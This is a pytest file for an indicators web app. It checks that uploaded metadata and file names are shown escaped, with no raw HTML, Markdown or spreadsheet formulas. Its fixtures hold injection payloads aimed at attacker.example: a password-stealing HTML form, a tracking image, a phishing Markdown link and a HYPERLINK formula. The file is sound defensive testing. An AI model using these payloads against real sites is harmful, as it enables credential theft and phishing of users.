"""Every field an upload can fill is shown as typed on every page: no HTML, no Markdown, no formulas.

A preview whose publisher, release, source, note and file name are hostile (a password form posting
elsewhere, an external image, a Markdown link, a spreadsheet formula) is opened on every page, and every
element the page draws is checked: HTML only where the page allows it and never from the data, Markdown
links and images only escaped, and table cells a toolbar can download never starting a formula.
"""

from __future__ import annotations

import pandas as pd
import pytest

from app_pages.state import Preview
from indicators.safety import FORMULA_SIGNS
from indicators.table import load_default, normalise
from tests.page_helpers import PAGES, show_preview

FORM = "<form action='https://attacker.example/steal'><input type='password' name='p'></form>"
IMAGE = "<img src='https://attacker.example/pixel.png'>"
LINK = "[sign in again](https://attacker.example/login)"
FORMULA = '=HYPERLINK("https://attacker.example","click")'
HOSTILE = {
    "publisher": f"ITU{FORM}{IMAGE}",
    "edition": f"2023{LINK}",
    "source": f"@SUM(1+1) {LINK} {IMAGE}",
    "note": f"{FORMULA}{FORM}",
}
FILE_NAME = f"figures{LINK}_**bold**.csv"


@pytest.fixture(scope="module")
def hostile_preview() -> Preview:
    table = load_default()
    hostile = table[table["indicator"] == "internet_users"].assign(**HOSTILE)
    return Preview(normalise(pd.concat([table, hostile], ignore_index=True)), FILE_NAME, "test-hostile", 0)


def _raw_html(value: str) -> list[str]:
    return [tag for tag in ("<form", "<img", "<input") if tag in value]


def _raw_markdown(value: str) -> bool:
    return "[sign in again](https" in value or "**bold**" in value


@pytest.mark.parametrize("page", ["overview", "target", "countries", "data", "history", "backtest"])
def test_no_page_renders_an_uploaded_field_as_html_or_markdown(app, hostile_preview, page):
    at = app(PAGES[page], target="2.2.A")
    show_preview(at, hostile_preview)
    at.run(timeout=120)
    assert not at.exception
    for element in [*at.markdown, *at.caption, *at.warning, *at.info, *at.error, *at.success]:
        value = str(element.value)
        assert not _raw_html(value), (page, value[:300])
        assert not _raw_markdown(value), (page, value[:300])


def test_the_verdict_naming_an_uploaded_publisher_shows_its_name_as_typed(app):
    """Scripts were stripped, but a password form posting elsewhere and external images were drawn."""
    table = load_default()
    series = (table["indicator"] == "internet_users") & (table["economy"] == "DEVELOPING")
    others = table[series].assign(**HOSTILE)  # the only figures of the target's series: named in its verdict
    preview = Preview(normalise(pd.concat([table[~series], others], ignore_index=True)), FILE_NAME, "only", 0)
    at = app(PAGES["target"], target="2.2.A")
    show_preview(at, preview)
    at.run(timeout=120)
    (line,) = [m.value for m in at.markdown if "has published no figure" in m.value]
    assert "&lt;form" in line and "&lt;img" in line and not _raw_html(line)


@pytest.mark.parametrize("page", ["target", "countries", "data"])
def test_tables_a_toolbar_can_download_start_no_formula(app, hostile_preview, page):
    at = app(PAGES[page], target="2.2.A")
    show_preview(at, hostile_preview)
    at.run(timeout=120)
    for frame in (d.value for d in at.dataframe):
        for column in frame.columns:
            texts = [v for v in frame[column].tolist() if isinstance(v, str)]
            assert not [v for v in texts if v.lstrip()[:1] and v.lstrip()[0] in FORMULA_SIGNS], (page, column)
